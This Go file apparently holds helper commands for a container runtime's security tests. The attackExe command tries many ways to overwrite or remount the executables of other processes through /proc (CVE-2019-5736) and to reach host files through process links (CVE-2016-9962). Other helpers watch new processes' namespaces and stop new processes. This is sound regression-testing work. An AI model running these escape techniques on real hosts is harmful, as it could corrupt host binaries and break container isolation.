package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// swap exchanges two paths until it is killed, and says when it has begun: a
// process of another container that shares a volume.
func swap(args []string) error {
	if len(args) != 2 {
		return errors.New("want two paths")
	}
	for said := false; ; {
		err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE)
		if err != nil && err != unix.EBUSY {
			return err
		}
		if !said {
			fmt.Println("ready")
			said = true
		}
	}
}

// maxRSS runs a program and prints the most memory that it had, in KiB. Its
// exit status is the program's.
func maxRSS(args []string) error {
	if len(args) == 0 {
		return errors.New("want a program")
	}
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Stderr = os.Stderr
	err := cmd.Run()
	if cmd.ProcessState == nil {
		return err
	}
	fmt.Println(cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss)
	os.Exit(cmd.ProcessState.ExitCode())
	return nil
}

// deadline is that number of seconds from now.
func deadline(seconds string) (time.Time, error) {
	n, err := strconv.Atoi(seconds)
	return time.Now().Add(time.Duration(n) * time.Second), err
}

// attackExe tries for some seconds to write to the programs of all processes
// that /proc shows, but its own (CVE-2019-5736). It prints "reached" if it got
// hold of one that is neither this one nor busybox, what it could write to, and
// whether it saw mark, a path of the host's that the container lacks.
func attackExe(args []string) error {
	if len(args) != 2 {
		return errors.New("want a number of seconds and a path of the host's")
	}
	end, err := deadline(args[0])
	if err != nil {
		return err
	}
	a := attacker{own: identity("/proc/self/exe"), busybox: identity("/bin/busybox"), said: map[string]bool{}, mark: args[1]}
	for time.Now().Before(end) {
		procs, err := filepath.Glob("/proc/[0-9]*")
		if err != nil {
			return err
		}
		for _, p := range procs {
			a.attack(p)
		}
		a.reopen()
	}
	a.reopen()
	fmt.Println("over")
	return nil
}

// attacker is what attackExe remembers.
type attacker struct {
	own, busybox fileID
	held         []int
	said         map[string]bool
	mark         string
}

// fileID is what tells files apart.
type fileID struct{ dev, ino uint64 }

func identity(path string) fileID {
	var st unix.Stat_t
	if unix.Stat(path, &st) != nil {
		return fileID{}
	}
	return fileID{uint64(st.Dev), st.Ino}
}

// say prints a line once.
func (a *attacker) say(line string) {
	if !a.said[line] {
		a.said[line] = true
		fmt.Println(line)
	}
}

// attack tries each way to the program of the process whose folder is proc.
func (a *attacker) attack(proc string) {
	exe := proc + "/exe"
	fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		if fd, err = unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err != nil {
			return
		}
	}
	// From here on by the descriptor: the process may execute another program.
	exe = "/proc/self/fd/" + strconv.Itoa(fd)
	if id := identity(exe); id == a.own || id == a.busybox {
		unix.Close(fd)
		return
	}
	a.say("reached")
	a.look(proc)
	a.write(exe)
	a.change(fd, exe)
	a.mount(exe)
	// Once the process has ended, nobody executes the file any more.
	if len(a.held) < 200 {
		a.held = append(a.held, fd)
	} else {
		unix.Close(fd)
	}
}

// look tries to see the host's files by way of the process's root folder,
// working folder and descriptors (CVE-2016-9962).
func (a *attacker) look(proc string) {
	fds, _ := filepath.Glob(proc + "/fd/*")
	for _, way := range append(fds, proc+"/root", proc+"/cwd") {
		if a.mark != "" && unix.Access(way+strings.Repeat("/..", 20)+a.mark, unix.F_OK) == nil || unix.Access(way+a.mark, unix.F_OK) == nil {
			a.say("saw the host by " + filepath.Base(filepath.Dir(way)) + "/" + filepath.Base(way))
		}
	}
}

// write opens path for writing in all ways, and writes.
func (a *attacker) write(path string) {
	for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_APPEND, unix.O_WRONLY | unix.O_TRUNC} {
		fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if _, err := unix.Write(fd, []byte("overwritten")); err == nil {
			a.say("wrote to a program")
		}
		if unix.Ftruncate(fd, 0) == nil || unix.Fallocate(fd, unix.FALLOC_FL_PUNCH_HOLE|unix.FALLOC_FL_KEEP_SIZE, 0, 4096) == nil {
			a.say("cut a program")
		}
		a.writeMapped(fd)
		unix.Close(fd)
	}
	if unix.Truncate(path, 0) == nil {
		a.say("cut a program")
	}
}

// writeMapped writes through a shared mapping.
func (a *attacker) writeMapped(fd int) {
	m, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return
	}
	a.say("mapped a program to write to it")
	m[0] = 'x'
	_ = unix.Munmap(m)
}

// change tries what changes the inode, which the test looks at from outside: a
// sealed copy may well have its mode changed.
func (a *attacker) change(fd int, path string) {
	_ = unix.Chmod(path, 0o777)
	_ = unix.Fchmod(fd, 0o777)
	_ = unix.Chown(path, 1, 1)
	_ = unix.Utime(path, &unix.Utimbuf{})
	_ = unix.Setxattr(path, "trusted.evil", []byte("x"), 0)
	_ = unix.Link(path, "/tmp/link")
	_ = unix.Linkat(unix.AT_FDCWD, path, unix.AT_FDCWD, "/tmp/link2", unix.AT_SYMLINK_FOLLOW)
	a.writeMapped(fd)
}

// mount mounts the program elsewhere, without the read-only flag.
func (a *attacker) mount(exe string) {
	const place = "/tmp/exe"
	if f, err := os.Create(place); err == nil {
		f.Close()
	}
	if unix.Mount(exe, place, "", unix.MS_BIND, "") == nil {
		_ = unix.Mount("", place, "", unix.MS_REMOUNT|unix.MS_BIND, "")
		_ = unix.Mount("", place, "", unix.MS_REMOUNT, "")
		a.write(place)
		_ = unix.Unmount(place, unix.MNT_DETACH)
	}
	fd, err := unix.OpenTree(unix.AT_FDCWD, exe, unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	_ = unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY})
	a.write("/proc/self/fd/" + strconv.Itoa(fd))
}

// reopen opens for writing what attack has kept, of processes that may have
// ended.
func (a *attacker) reopen() {
	for _, fd := range a.held {
		a.write("/proc/self/fd/" + strconv.Itoa(fd))
	}
}

// watchProc looks for some seconds at files in /proc of each process from the
// instant of its birth on: those that everybody may read. It prints which of them
// showed another mount or network namespace than this process is in.
func watchProc(args []string) error {
	if len(args) != 1 {
		return errors.New("want a number of seconds")
	}
	end, err := deadline(args[0])
	if err != nil {
		return err
	}
	own := map[string]string{}
	for _, name := range []string{"mountinfo", "net/dev"} {
		own[name] = shown("self", name)
	}
	said, next := map[string]bool{}, os.Getpid()
	for time.Now().Before(end) {
		for pid := next; pid < next+10; pid++ {
			proc := strconv.Itoa(pid)
			for name, want := range own {
				got := shown(proc, name)
				if got == "" {
					continue
				}
				next = pid + 1
				if got != want && !said[name] {
					said[name] = true
					fmt.Println("saw another " + name)
				}
			}
		}
	}
	fmt.Println("over")
	return nil
}

// shown is what a file in /proc of a process shows: all of it, or, of one in net, the
// names of the devices.
func shown(proc, name string) string {
	data, _ := os.ReadFile("/proc/" + proc + "/" + name)
	if name != "net/dev" {
		return string(data)
	}
	var devices []string
	for _, line := range strings.Split(string(data), "\n") {
		if device, _, ok := strings.Cut(line, ":"); ok {
			devices = append(devices, strings.TrimSpace(device))
		}
	}
	return strings.Join(devices, " ")
}

// stopNew stops each process of the next pids for some seconds.
func stopNew(args []string) error {
	if len(args) != 1 {
		return errors.New("want a number of seconds")
	}
	end, err := deadline(args[0])
	if err != nil {
		return err
	}
	fmt.Println("ready")
	next := os.Getpid() + 1
	for time.Now().Before(end) {
		for pid := next; pid < next+10; pid++ {
			// Its own threads have numbers, too, and are no processes.
			if _, err := os.Stat("/proc/self/task/" + strconv.Itoa(pid)); err == nil {
				next = max(next, pid+1)
			} else if unix.Kill(pid, unix.SIGSTOP) == nil {
				next = pid + 1
			}
		}
	}
	return nil
}
